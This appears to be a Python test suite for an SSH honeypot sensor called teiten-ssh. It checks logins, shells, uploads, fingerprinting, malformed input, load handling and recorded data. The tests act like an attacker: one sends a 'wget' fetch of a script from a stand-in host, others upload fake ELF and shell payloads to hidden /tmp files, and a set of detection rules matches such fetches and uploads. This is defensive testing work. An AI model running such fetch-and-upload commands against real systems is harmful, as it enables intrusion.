"""SSH answered by teiten-ssh, with OpenSSH's client and with bytes of our own."""
import hashlib
import os
import socket
import struct
import subprocess
import threading
import time

from live import (BUILD, FOLDER, ROOT, Sensor, Skip, contains, equal, main, memory_kb, need,
                  read_until, wait_for)

OLD = ['-o', 'HostKeyAlgorithms=+ssh-rsa',
       '-o', 'KexAlgorithms=+diffie-hellman-group14-sha1,diffie-hellman-group1-sha1',
       '-o', 'Ciphers=+aes128-cbc,3des-cbc', '-o', 'MACs=+hmac-sha1']
MANY = 200
IDENT = b'SSH-2.0-Go\r\n'
RULES = '''\
alert ssh any any -> $HOME_NET any (msg:"a client in Go"; ssh.software; content:"Go"; sid:1;)
alert tcp any any -> $HOME_NET 22 (msg:"fetches"; flow:established,to_server; \
content:"wget http"; sid:2;)
alert tcp $HOME_NET 22 -> any any (msg:"our answer"; flow:to_client; content:"in the shell"; sid:3;)
alert tcp any any -> $HOME_NET 22 (msg:"a program"; flow:to_server; content:"|7f|ELF"; sid:4;)
'''
shared = {}


def sensor():
    if 'sensor' not in shared:
        rules = os.path.join(FOLDER, 'own.rules')
        with open(rules, 'w', encoding='utf-8') as file:
            file.write(RULES)
        shared['sensor'] = Sensor(respond='protocols: { ssh: [22] }',
                                  capture='capture: { interface: lo }\n' if ROOT else '',
                                  extra=f'signatures: {{ rules: ["{rules}"] }}\n').start()
        wait_for('the rules', lambda: all(shared['sensor'].counter('rules', name) == 4 for name in
                                          ('ssh', 'capture')[:1 + ROOT]))
    return shared['sensor']


def persona(key):
    with open(os.path.join(sensor().store, 'persona'), encoding='latin-1') as file:
        for line in file:
            if line.startswith(key + '\t'):
                return line.rstrip('\n').split('\t', 1)[1]
    raise AssertionError(f'the persona has no {key}')


def ask_pass(password):
    """A program that says the password, for those that ask without a terminal."""
    path = os.path.join(FOLDER, 'pass-' + hashlib.md5(password.encode()).hexdigest())
    if not os.path.exists(path):
        with open(path + '.new', 'w', encoding='utf-8') as file:
            file.write(f"#!/bin/sh\necho '{password}'\n")
        os.chmod(path + '.new', 0o700)
        os.rename(path + '.new', path)
    return path


def arguments(*options, program='ssh'):
    where = sensor()
    return [program, '-F', 'none', '-P' if program == 'scp' else '-p', str(where.port(22)),
            '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null',
            '-o', 'LogLevel=ERROR', '-o', 'ConnectTimeout=90', *OLD, *options]


def start(words, password, **more):
    need(words[0])
    return subprocess.Popen(words, stdin=more.pop('stdin', subprocess.DEVNULL),
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True,
                            env=dict(os.environ, SSH_ASKPASS=ask_pass(password), DISPLAY=':0',
                                     SSH_ASKPASS_REQUIRE='force', SSH_AUTH_SOCK='', HOME=FOLDER),
                            **more)


def ssh(user, password, command, *options, data=None):
    words = arguments('-o', 'PubkeyAuthentication=no', *options)
    done = start(words + [f'{user}@{sensor().address}'] + ([command] if command else []), password,
                 stdin=subprocess.PIPE if data is not None else subprocess.DEVNULL)
    out, err = done.communicate(data, timeout=120)
    return done.returncode, out.decode(), err.decode()


def accepted():
    """A pair that gets in at once."""
    return persona('ssh.accepts').split()[0].split(':', 1)


def test_login_and_command():
    user, password = accepted()
    status, out, err = ssh(user, password,
                           'echo one; wget http://192.0.2.7/a.sh; echo -n two > /tmp/f; cat /tmp/f')
    contains(out, 'one', 'two')
    equal((status, 'denied' in err), (0, False))
    equal(ssh(user, password, 'false')[0], 1)


def test_shell():
    user, password = accepted()
    status, out, _ = ssh(user, password, None, '-tt', data=b'echo in the shell\rexit\r')
    contains(out, 'echo in the shell\r\n', '\r\nin the shell\r\n')
    equal(status, 0)
    equal(ssh(user, password, None, '-T', data=b'echo piped\n')[1], 'piped\n')


def test_refused():
    for method in ('password', 'keyboard-interactive'):
        status, _, err = ssh('oper', f'wrong by {method}', 'id', '-o', 'NumberOfPasswordPrompts=1',
                             '-o', f'PreferredAuthentications={method}')
        equal(status, 255)
        contains(err, 'denied')


def test_later_tries():
    status, out, _ = ssh('tries', 'again and again', 'echo in', '-o', 'NumberOfPasswordPrompts=3',
                         '-o', 'PreferredAuthentications=password')
    equal((status, out), (0, 'in\n'))


def test_key():
    need('ssh-keygen')
    key = os.path.join(FOLDER, 'key')
    subprocess.run(['ssh-keygen', '-q', '-t', 'ed25519', '-N', '', '-f', key], check=True)
    shared['print'] = subprocess.run(['ssh-keygen', '-lf', key + '.pub'], check=True,
                                     capture_output=True, text=True).stdout.split()[1]
    done = start(arguments('-i', key, '-o', 'IdentitiesOnly=yes', '-o', 'BatchMode=yes')
                 + [f'keyed@{sensor().address}', 'id'], '')
    equal(done.wait(120), 255)
    contains(done.stderr.read().decode(), 'denied')


def test_forward():
    user, password = accepted()
    status, _, err = ssh(user, password, None, '-W', '192.0.2.9:25')
    equal(status, 255)
    contains(err, 'forwarding failed')


def test_uploads():
    user, password = accepted()
    shared['upload'] = b'\x7fELF' + os.urandom(100000)
    equal(ssh(user, password, 'cat >/tmp/.u; echo done', data=shared['upload'])[0], 0)
    path = os.path.join(FOLDER, 'dropped')
    shared['scp'] = b'#!/bin/sh\n' + os.urandom(3000)
    with open(path, 'wb') as file:
        file.write(shared['scp'])
    done = start(arguments('-O', '-o', 'PubkeyAuthentication=no', program='scp')
                 + [path, f'{user}@{sensor().address}:/tmp/.s'], password)
    equal((done.wait(120), done.stderr.read()), (0, b''))
    shared['sftp'] = os.urandom(200001)
    with open(path, 'wb') as file:
        file.write(shared['sftp'])
    done = start(arguments('-s', '-o', 'PubkeyAuthentication=no', program='scp')
                 + [path, f'{user}@{sensor().address}:/tmp/.t'], password)
    equal((done.wait(120), done.stderr.read()), (0, b''))


def kexinit_of_client():
    """What OpenSSH's client sends, to a listener of our own."""
    listener = socket.create_server(('127.0.0.1', 0))
    words = ['ssh', '-F', 'none', '-p', str(listener.getsockname()[1]),
             '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', *OLD,
             'root@127.0.0.1', 'id']
    client = start(words, '')
    peer, _ = listener.accept()
    peer.sendall(b'SSH-2.0-OpenSSH_9.2\r\n')
    data = read_until(peer, b'\n')
    data = data[data.index(b'\n') + 1:]
    while len(data) < 4 or len(data) < 4 + struct.unpack('>I', data[:4])[0]:
        data += peer.recv(4096)
    peer.close()
    listener.close()
    client.wait(90)
    return data[:4 + struct.unpack('>I', data[:4])[0]]


def hassh_of(packet):
    lists, at = [], 4 + 1 + 1 + 16
    for _ in range(8):
        length = struct.unpack('>I', packet[at:at + 4])[0]
        lists.append(packet[at + 4:at + 4 + length])
        at += 4 + length
    return hashlib.md5(b';'.join([lists[0], lists[2], lists[4], lists[6]])).hexdigest()


def test_scanners():
    need('ssh')
    packet = kexinit_of_client()
    shared['hassh'] = hassh_of(packet)
    where = sensor()
    for number, said in enumerate([IDENT, IDENT.replace(b'Go', b'Slow') + packet]):
        with where.connect(22) as s:
            contains(read_until(s, b'\n'), b'SSH-2.0-OpenSSH_')
            for i in range(0, len(said), 1 if number == 0 else 500):
                s.sendall(said[i:i + (1 if number == 0 else 500)])
                time.sleep(0.005)
            s.shutdown(socket.SHUT_WR) # and hears it out: what it said is read
            read_until(s, b'never')


def test_wrong_ident():
    where = sensor()
    invalid = b'Invalid SSH identification string.\r\n'
    for said, answer in ((b'GET / HTTP/1.1\r\nHost: x\r\n\r\n', invalid),
                         (b'\x16\x03\x01' + b'x' * 400, invalid),
                         (b'SSH-1.5-old\r\n', b'Protocol major versions differ.\r\n')):
        with where.connect(22) as s:
            banner = read_until(s, b'\n')
            s.sendall(said)
            contains(banner + read_until(s, b'\r\n\0'), b'\r\n' + answer)


def test_garbage():
    where = sensor()
    for said in (IDENT + os.urandom(5000), IDENT + b'\0\0\xff\xff' + os.urandom(70000),
                 IDENT + b'\0\0\0\x0c\x0a\x15' + b'\0' * 10, IDENT * 2):
        with where.connect(22) as s:
            try:
                s.sendall(said)
                read_until(s, b'never', 30)
            except OSError:
                pass
    equal(where.restarts(), 0)


def test_many():
    need('ssh')
    where = sensor()
    time.sleep(1.5) # the status is told once a second
    before = where.counter('accepted', 'ssh')
    clients = []
    ask_pass('the same') # before the threads
    begun = time.monotonic()

    def one(number):
        words = arguments('-o', 'PubkeyAuthentication=no', '-o', 'NumberOfPasswordPrompts=1',
                          '-o', 'PreferredAuthentications=password', '-o', 'ConnectTimeout=180')
        client = start(words + [f'many{number}@{where.address}', 'id'], 'the same')
        clients.append(client.wait(240))
    threads = [threading.Thread(target=one, args=(number,)) for number in range(MANY)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    equal((len(clients), set(clients)), (MANY, {255}))
    took = time.monotonic() - begun
    wait_for('status', lambda: where.counter('accepted', 'ssh') - before >= MANY)
    status = where.worker('ssh')['status']
    print(f'# {MANY} logins in {took:.1f} s, at most {status["open_max"]} at a '
          f'time; {memory_kb(where.worker("ssh")["pid"])} KiB')
    wait_for('logins', lambda: where.counter('logins', 'ssh') >= MANY)


def test_records():
    where = sensor()
    wait_for('no connection', lambda: where.counter('open', 'ssh') == 0)
    equal(where.restarts(), 0)
    equal(where.counter('lost_rows', 'ssh'), 0)
    equal('ended' in where.log(), False)
    where.settle()
    where.stop()
    logins = {(r['user'], r['password'], r['secret'], r['method'], r['outcome'])
              for r in where.sql('SELECT * FROM login')}
    user, password = persona('ssh.accepts').split()[0].split(':', 1)
    commands = [r['text'] for r in where.sql('SELECT text FROM command')]
    sessions = where.sql('SELECT protocol, software, hassh, request, logins FROM session')
    payloads = {r['sha256']: r for r in where.sql('SELECT * FROM payload')}
    if 'print' in shared:
        contains(logins, (user, password, 'password', 'keyboard-interactive', 'accepted'),
                 ('oper', 'wrong by password', 'password', 'password', 'refused'),
                 ('oper', 'wrong by keyboard-interactive', 'password', 'keyboard-interactive',
                  'refused'),
                 ('keyed', shared['print'], 'key', 'publickey', 'refused'),
                 ('tries', 'again and again', 'password', 'password', 'refused'),
                 ('tries', 'again and again', 'password', 'password', 'accepted'))
        equal(len([1 for login in logins if login[0].startswith('many')]), MANY)
        contains(commands, 'echo in the shell', 'exit', 'echo piped', 'false',
                 'direct-tcpip 192.0.2.9:25', 'cat >/tmp/.u; echo done', 'scp -t /tmp/.s', 'subsystem sftp',
                 'echo one; wget http://192.0.2.7/a.sh; echo -n two > /tmp/f; cat /tmp/f')
        equal(where.sql("SELECT urls FROM command WHERE text LIKE 'echo one%'")[0]['urls'],
              'http://192.0.2.7/a.sh')
        equal({s['hassh'] for s in sessions
               if (s['software'] or '').startswith(('SSH-2.0-OpenSSH', 'SSH-2.0-Slow'))},
              {shared['hassh']})
        for data in (shared['upload'], shared['scp'], shared['sftp']):
            found = payloads[hashlib.sha256(data).hexdigest()]
            equal((found['size'], bool(found['complete'])), (len(data), True))
    contains([s['request'] for s in sessions], 'GET /')
    contains([s['software'] for s in sessions], 'SSH-2.0-Go', 'SSH-1.5-old')


def test_signatures():
    """Rules see what is in the clear and, as a conversation inside it, what came encrypted; a
    capture beside it does not raise them again."""
    rows = sensor().sql('SELECT sid, session, dport FROM alert WHERE suppressed = 0')
    equal({(r['dport'], r['session'] == 0) for r in rows}, {(22, False)})
    sessions = {sid: {r['session'] for r in rows if r['sid'] == sid} for sid in (1, 2, 3, 4)}
    told = {r['id']: r['software'] for r in sensor().sql('SELECT id, software FROM session')}
    equal({told[s] for s in sessions[1]}, {'SSH-2.0-Go'})
    if 'print' not in shared:
        raise Skip('OpenSSH\'s client is not installed')
    for sid, pattern in (2, 'echo one; wget %'), (3, 'echo in the shell'), (4, 'cat >/tmp/.u%'):
        equal(sessions[sid], {r['session'] for r in sensor().sql(
            f"SELECT session FROM command WHERE text LIKE '{pattern}'")})


def test_idle_memory():
    with open(os.path.join(BUILD, 'teiten-ssh'), 'rb') as file:
        if b'__asan_init' in file.read():
            raise Skip('a sanitizer has memory of its own')
    where = Sensor(respond='protocols: { ssh: [22] }').start()
    time.sleep(1.5)
    kb = {name: memory_kb(pid) for name, pid in where.pids().items()}
    print(f'# idle, KiB: {kb}')
    if kb['ssh'] > 16 << 10 or sum(kb.values()) > 64 << 10:
        raise AssertionError(f'KiB: {kb}')
    where.stop()


main(globals())
